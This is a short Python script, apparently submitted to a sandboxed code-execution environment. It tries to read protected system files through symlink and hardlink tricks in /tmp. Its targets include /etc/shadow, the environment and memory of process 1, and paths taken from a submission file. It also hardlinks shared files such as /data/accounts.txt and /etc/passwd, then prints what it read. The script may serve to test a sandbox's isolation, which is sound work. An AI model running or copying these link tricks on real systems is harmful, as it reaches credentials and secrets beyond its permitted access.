import os
read = []
for number, place in enumerate(open("/submission/places.txt").read().split("\n") + ["/etc/shadow", "/proc/1/environ", "/proc/1/mem"]):
    for make in (os.symlink, os.link):
        try:
            make(place, f"/tmp/{make.__name__}-{number}")
            read.append(open(f"/tmp/{make.__name__}-{number}", errors="replace").read(100))
        except OSError:
            pass
for shared in ("/data/accounts.txt", "/submission/note.txt", "/usr/bin/python3", "/etc/passwd"):
    try:
        os.link(shared, "/tmp/own-" + os.path.basename(shared))
        read.append(shared)
    except OSError:
        pass
print("read", read)
